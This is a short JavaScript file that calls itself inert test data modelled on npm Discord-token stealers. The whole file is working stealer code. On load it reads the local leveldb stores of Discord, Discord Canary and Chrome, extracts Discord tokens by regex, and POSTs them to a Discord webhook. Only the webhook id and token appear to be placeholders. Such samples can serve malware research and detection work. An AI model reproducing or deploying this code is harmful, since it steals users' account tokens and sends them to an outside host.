// Shape of npm Discord-token stealers: list Discord's leveldb stores, grep tokens, post them to a webhook.
// Inert test data (made-up webhook id and token).
const fs = require("fs");
const path = require("path");
const https = require("https");

const roaming = process.env.APPDATA;
const local = process.env.LOCALAPPDATA;
const stores = {
  Discord: roaming + "\\discord\\Local Storage\\leveldb",
  Canary: roaming + "\\discordcanary\\Local Storage\\leveldb",
  Chrome: local + "\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb",
};
const HOOK = "https://discord.com/api/webhooks/1187312345678901234/Zm9vYmFyLXRva2VuLW5vdC1yZWFs";

function grab() {
  const tokens = [];
  for (const [name, dir] of Object.entries(stores)) {
    if (!fs.existsSync(dir)) continue;
    for (const file of fs.readdirSync(dir)) {
      if (!file.endsWith(".ldb") && !file.endsWith(".log")) continue;
      const content = fs.readFileSync(path.join(dir, file), "utf8");
      const found = content.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) || [];
      tokens.push(...found.map((t) => `${name}: ${t}`));
    }
  }
  return tokens;
}

const body = JSON.stringify({ content: grab().join("\n") });
const req = https.request(HOOK, { method: "POST", headers: { "Content-Type": "application/json" } });
req.write(body);
req.end();
